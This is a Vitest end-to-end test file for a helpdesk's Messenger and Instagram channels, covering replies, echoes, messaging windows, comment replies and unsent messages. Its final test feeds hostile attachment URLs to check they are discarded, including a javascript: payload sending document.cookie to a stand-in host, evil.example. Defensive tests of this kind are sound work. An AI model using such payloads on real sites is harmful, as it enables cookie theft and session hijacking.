// Messenger and Instagram end to end: DMs, echoes, watermarks, the 24-hour and human-agent windows,
// Instagram comments answered publicly or privately, and unsent messages.
import { beforeAll, expect, test } from 'vitest'
import {
  instagramComment,
  instagramDm,
  instagramUnsend,
  messengerAttachment,
  messengerDelivered,
  messengerEcho,
  messengerRead,
  messengerText,
  postSignedWebhook,
} from '../fakes/meta-webhooks.ts'
import { eventually } from '../support/eventually.ts'
import { appSecret, useMetaServer } from '../support/meta-server.ts'

const setup = useMetaServer()
const pageId = '102938475610293'
const igUserId = '17841400000000000'
let nextUser = 7392015648120000

beforeAll(async () => {
  await setup.api.post('/api/channels', {
    kind: 'messenger',
    name: 'Facebook page',
    config: { pageId, pageAccessToken: 'EAAG-page' },
  })
  await setup.api.post('/api/channels', {
    kind: 'instagram',
    name: 'Instagram',
    config: { igUserId, pageId: '5550001', accessToken: 'IGQV-token' },
  })
})

const post = async (delivery: object) => expect((await postSignedWebhook(setup.server.url, delivery, appSecret)).status).toBe(200)
const ticketWith = async (text: string) => {
  const found = await setup.api.get(`/api/tickets?q=${encodeURIComponent(text)}`)
  expect(found.body.items).toHaveLength(1)
  return found.body.items[0]
}
const thread = async (ticketId: string) => (await setup.api.get(`/api/tickets/${ticketId}`)).body.messages
const sentMessage = (ticketId: string, messageId: string) =>
  eventually(async () => {
    const message = (await thread(ticketId)).find((m: { id: string }) => m.id === messageId)
    expect(message.status).toBe('sent')
    return message
  })

test('a Messenger photo and text become one ticket, and the reply goes out as a RESPONSE with the page token', async () => {
  const psid = String(nextUser++)
  await post(messengerAttachment({ pageId, psid, attachments: [{ type: 'image', url: 'https://scontent.example/photo.jpg' }] }))
  await post(messengerText({ pageId, psid, text: 'Is the blue one in stock?' }))
  const ticket = await ticketWith('blue one')
  const messages = await thread(ticket.id)
  expect(messages.map((m: { attachments: { type: string; url: string }[] }) => m.attachments)).toEqual([
    [expect.objectContaining({ type: 'image', url: 'https://scontent.example/photo.jpg' })],
    [],
  ])

  setup.graph.reset()
  const reply = await setup.api.post(`/api/tickets/${ticket.id}/replies`, { body: 'Yes, size M is available.' })
  const sent = await sentMessage(ticket.id, reply.body.message.id)
  const call = setup.graph.requests.find((r) => r.path.endsWith('/messages'))!
  expect(call.path).toBe('/v21.0/me/messages')
  // The page token goes in the Authorization header, never in the URL.
  expect(call.headers.authorization).toBe('Bearer EAAG-page')
  expect(call.query.access_token).toBeUndefined()
  expect(call.body).toEqual({
    recipient: { id: psid },
    messaging_type: 'RESPONSE',
    message: { text: 'Yes, size M is available.', metadata: `helpdesk:${reply.body.message.id}` },
  })

  // Meta echoes our own send: no second copy. Delivery and read watermarks move its status.
  await post(messengerEcho({ pageId, psid, text: 'Yes, size M is available.', mid: sent.externalId }))
  await post(messengerDelivered({ pageId, psid, watermark: Date.now() + 1000 }))
  await post(messengerRead({ pageId, psid, watermark: Date.now() + 1000 }))
  const after = await thread(ticket.id)
  expect(after.filter((m: { direction: string }) => m.direction === 'outbound')).toHaveLength(1)
  expect(after.find((m: { id: string }) => m.id === sent.id).status).toBe('read')
})

test('a message the page sent from another tool is recorded as outbound, not as the customer’s', async () => {
  const psid = String(nextUser++)
  await post(messengerText({ pageId, psid, text: 'Do you deliver to Porto?' }))
  await post(messengerEcho({ pageId, psid, text: 'We do, in two days (sent from the phone app)' }))
  const ticket = await ticketWith('Porto')
  const messages = await thread(ticket.id)
  expect(messages.map((m: { direction: string; authorType: string }) => [m.direction, m.authorType])).toEqual([
    ['inbound', 'contact'],
    ['outbound', 'agent'],
  ])
})

test('after 24 hours a Messenger reply carries the HUMAN_AGENT tag, and after 7 days it is refused', async () => {
  const threeDaysAgo = Date.now() - 3 * 86_400_000
  const psid = String(nextUser++)
  await post(messengerText({ pageId, psid, text: 'Hello from three days ago', at: threeDaysAgo }))
  const ticket = await ticketWith('three days ago')
  setup.graph.reset()
  const reply = await setup.api.post(`/api/tickets/${ticket.id}/replies`, { body: 'Sorry for the wait!' })
  expect(reply.status).toBe(202)
  await sentMessage(ticket.id, reply.body.message.id)
  const call = setup.graph.requests.find((r) => r.path.endsWith('/messages'))!
  expect(call.body).toMatchObject({ messaging_type: 'MESSAGE_TAG', tag: 'HUMAN_AGENT' })

  const old = String(nextUser++)
  await post(messengerText({ pageId, psid: old, text: 'Hello from last month', at: Date.now() - 8 * 86_400_000 }))
  const stale = await ticketWith('last month')
  const refused = await setup.api.post(`/api/tickets/${stale.id}/replies`, { body: 'Too late?' })
  expect(refused.status).toBe(422)
  expect(refused.body.error.code).toBe('window_closed')
})

test('an Instagram comment is its own ticket, answered publicly or once privately', async () => {
  const igsid = String(nextUser++)
  await post(instagramDm({ igUserId, igsid, text: 'Do you ship to Canada?' }))
  await post(
    instagramComment({
      igUserId,
      fromId: igsid,
      fromUsername: 'dana.w',
      text: 'How much is this jacket?',
      mediaId: '17800000000000001',
    }),
  )
  const dm = await ticketWith('Canada')
  const comment = await ticketWith('jacket')
  expect(comment.id).not.toBe(dm.id)
  expect(comment.contactId).toBe(dm.contactId)
  expect(comment.threadKey).toBe('comment:17800000000000001')
  expect(comment.subject).toBe('Comment on an Instagram post')

  setup.graph.reset()
  const publicReply = await setup.api.post(`/api/tickets/${comment.id}/replies`, { body: 'It is 89 €, see our bio!' })
  await sentMessage(comment.id, publicReply.body.message.id)
  const commentId = (await thread(comment.id)).find((m: { direction: string }) => m.direction === 'inbound').externalId
  const publicCall = setup.graph.requests.find((r) => r.path.includes('/replies'))!
  expect(publicCall.path).toBe(`/v21.0/${commentId}/replies`)
  expect(publicCall.body).toEqual({ message: 'It is 89 €, see our bio!' })

  const privateReply = await setup.api.post(`/api/tickets/${comment.id}/replies`, {
    body: 'Sending you the size guide.',
    privateReply: true,
  })
  await sentMessage(comment.id, privateReply.body.message.id)
  const privateCall = setup.graph.requests.find((r) => r.path.endsWith('/messages'))!
  expect(privateCall.path).toBe('/v21.0/5550001/messages')
  expect(privateCall.body).toEqual({ recipient: { comment_id: commentId }, message: { text: 'Sending you the size guide.' } })
  const second = await setup.api.post(`/api/tickets/${comment.id}/replies`, { body: 'And a coupon.', privateReply: true })
  expect(second.status).toBe(422)
  expect(second.body.error.code).toBe('channel_rule')
})

test('an unsent Instagram message stays in the thread, marked deleted', async () => {
  const igsid = String(nextUser++)
  const mid = `aWdf-unsend-${igsid}`
  await post(instagramDm({ igUserId, igsid, text: 'Oops wrong chat', mid }))
  await post(instagramUnsend({ igUserId, igsid, mid }))
  const ticket = await ticketWith('wrong chat')
  const [message] = await thread(ticket.id)
  expect(message.body).toBe('Oops wrong chat')
  expect(message.deletedAt).not.toBeNull()
})

test('a fallback or share whose link is not a web address keeps only its name: no javascript: URL is stored', async () => {
  const psid = String(nextUser++)
  const hostile = [
    'javascript:fetch("//evil.example?c="+document.cookie)',
    ' JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
  ]
  await post(
    messengerAttachment({
      pageId,
      psid,
      attachments: [
        ...hostile.map((url) => ({ type: 'fallback', url })),
        { type: 'fallback', url: 'https://shop.example/item/7' },
      ],
    }),
  )
  await post(
    instagramDm({
      igUserId,
      igsid: String(nextUser++),
      text: 'look at this post',
      attachments: [{ type: 'share', url: 'javascript:alert(2)' }],
    }),
  )
  await post(messengerText({ pageId, psid, text: 'did you see my link?' }))
  const [first] = await thread((await ticketWith('did you see my link')).id)
  expect(first.attachments.map((a: { url: string | null }) => a.url)).toEqual([null, null, null, 'https://shop.example/item/7'])
  const [share] = await thread((await ticketWith('look at this post')).id)
  expect(share.attachments).toEqual([expect.objectContaining({ type: 'other', url: null, name: 'share' })])
})
